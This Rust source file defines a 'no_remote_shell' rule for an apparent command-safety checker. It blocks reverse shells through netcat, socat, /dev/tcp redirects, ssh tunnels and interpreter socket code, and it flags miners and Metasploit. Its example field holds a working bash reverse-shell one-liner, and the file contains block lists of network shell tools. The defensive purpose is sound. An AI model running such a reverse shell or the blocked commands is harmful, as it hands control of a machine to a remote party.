//! `no_remote_shell`: gives somebody elsewhere a shell on this machine.

use super::code_parts::{CodeParts, code_has};
use super::concern::{ProgramCall, Sign, Sought, WholeConcern};
use super::options::has_short;
use super::pipelines::{INTERPRETERS, SHELLS, feeds, is_shell, near};
use super::{Concern, Decision, Rule, RuleJudge};
use crate::script::{Redirect, Script, SimpleCommand, Span, Word};

pub(super) const RULE: Rule = Rule {
    name: "no_remote_shell",
    denies: "shells whose input comes from the network: bash -i >& /dev/tcp/…, nc -e, socat EXEC; asks about miners and open connections",
    message: "this gives someone on the network a shell on this machine",
    instead: "Use ssh, which checks who connects",
    example: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    judge: RuleJudge::Both(
        &[
            Concern::Programs {
                names: &[
                    "nc",
                    "ncat",
                    "netcat",
                    "nc.traditional",
                    "nc.openbsd",
                    "pwncat",
                ],
                judge: |call| {
                    let runs = |word: &Word| {
                        has_short(word, "ec", "pwsiIxXqT")
                            || matches!(word.known(), Some("--exec" | "--sh-exec" | "--lua-exec"))
                    };
                    Decision::deny_if(call.words.iter().any(runs))
                },
            },
            Concern::Programs {
                names: &["socat"],
                judge: |call| {
                    let runs = |word: &Word| {
                        let text = word.known_beginning().to_ascii_lowercase();
                        text.starts_with("exec:") || text.starts_with("system:")
                    };
                    Decision::deny_if(call.words.iter().any(runs))
                },
            },
            Concern::Programs {
                names: &["ssh", "autossh"],
                judge: |call| {
                    // A way back in: `ssh -R 2222:localhost:22 host`.
                    let has_way = |word: &Word| has_short(word, "R", "BbcDEeFIiJLlmOopQSWw");
                    let to_shell = |word: &Word| {
                        let text = word.known().unwrap_or_default();
                        text.ends_with("localhost:22") || text.ends_with("127.0.0.1:22")
                    };
                    let has_way = call.words.iter().any(has_way);
                    Decision::ask_if(has_way && call.words.iter().any(to_shell))
                },
            },
            Concern::Programs {
                names: &["cloudflared", "ngrok"],
                judge: |call| {
                    let is_shell = |text: &str| text.starts_with("ssh://") || text == "22";
                    let mut words = call.words.iter().filter_map(Word::known);
                    Decision::ask_if(words.any(is_shell))
                },
            },
            Concern::Programs {
                names: &[
                    "python",
                    "python2",
                    "python3",
                    "python2.*",
                    "python3.*",
                    "perl",
                    "ruby",
                    "php",
                    "node",
                    "lua",
                    "awk",
                    "gawk",
                ],
                judge: by_code,
            },
            Concern::Programs {
                names: &[
                    "xmrig",
                    "minerd",
                    "cpuminer",
                    "ethminer",
                    "t-rex",
                    "nbminer",
                    "cgminer",
                    "bfgminer",
                    "msfvenom",
                    "msfconsole",
                ],
                judge: |_| Decision::Ask,
            },
        ],
        WholeConcern {
            names: &[&SHELLS, &INTERPRETERS],
            signs: &[Sign::Redirect],
            judge,
        },
    ),
};

fn by_code(call: &ProgramCall<'_>) -> Decision {
    let connects = code_has(
        call.command,
        const {
            &CodeParts::new(&[
                "socket",
                "TCPSocket",
                "fsockopen",
                "net.connect",
                "net.Socket",
                "/inet/tcp/",
                "IO::Socket",
            ])
        },
    );
    let gives = code_has(
        call.command,
        const {
            &CodeParts::new(&[
                "pty.spawn",
                "dup2",
                "/bin/sh",
                "/bin/bash",
                "exec(",
                "child_process",
                "cmd.exe",
                "subprocess",
                "IO.popen",
            ])
        },
    );
    Decision::deny_if(connects && gives)
}

/// Programs that speak to the network with what they read.
const SPEAKING: &[&str] = &[
    "nc",
    "ncat",
    "netcat",
    "telnet",
    "socat",
    "nc.traditional",
    "nc.openbsd",
];

fn judge(script: &Script, sought: Sought<'_>) -> Option<(Decision, Span)> {
    let is_shell = |command: &SimpleCommand| {
        command
            .name()
            .is_some_and(|name| is_shell(name) || INTERPRETERS.contains(&name))
    };
    let connects = |command: &&SimpleCommand| {
        let mut redirects = command.redirects.iter();
        redirects.any(|redirect| is_connection(&redirect.target))
    };
    let commands = sought.commands().map(|(_, command)| command);
    let connected: Vec<&SimpleCommand> = commands.filter(connects).collect();
    if let Some(command) = connected.iter().find(|command| is_shell(command)) {
        return Some((Decision::Deny, command.span));
    }
    let kept = connected.iter().find(|command| {
        let mut redirects = command.redirects.iter();
        let is_far =
            |redirect: &Redirect| is_connection(&redirect.target) && !is_local(&redirect.target);
        matches!(command.name(), Some("exec")) && redirects.any(is_far)
    });
    if let Some(command) = kept {
        return Some((Decision::Ask, command.span));
    }
    let speaks = |command: &&SimpleCommand| {
        let name = command.name().unwrap_or_default();
        SPEAKING.contains(&name)
            || name == "openssl" && command.arguments().iter().any(|word| word.is("s_client"))
    };
    let shell = sought.commands().find(|(at, command)| {
        let is_bare = || {
            let mut words = command.arguments().iter();
            words.all(|word| word.known_beginning().starts_with('-') && !word.is("-c"))
        };
        let is_joined =
            |speaker: &SimpleCommand| feeds(speaker, command) || feeds(command, speaker);
        let is_in_pipeline = command.place.reads_pipe || is_before_pipe(script, *at);
        is_shell(command)
            && is_in_pipeline
            && is_bare()
            && near(script, *at).iter().filter(speaks).any(is_joined)
    });
    shell.map(|(_, command)| (Decision::Deny, command.span))
}

/// Whether the command after it reads from it.
fn is_before_pipe(script: &Script, at: usize) -> bool {
    let next = script.commands.get(at + 1);
    next.is_some_and(|next| next.place.reads_pipe)
}

fn is_connection(word: &Word) -> bool {
    let text = word.known_beginning();
    text.starts_with("/dev/tcp/") || text.starts_with("/dev/udp/")
}

fn is_local(word: &Word) -> bool {
    let text = word.known_beginning();
    ["localhost", "127.", "::1", "0.0.0.0"].iter().any(|host| {
        text.strip_prefix("/dev/tcp/")
            .is_some_and(|rest| rest.starts_with(host))
    })
}
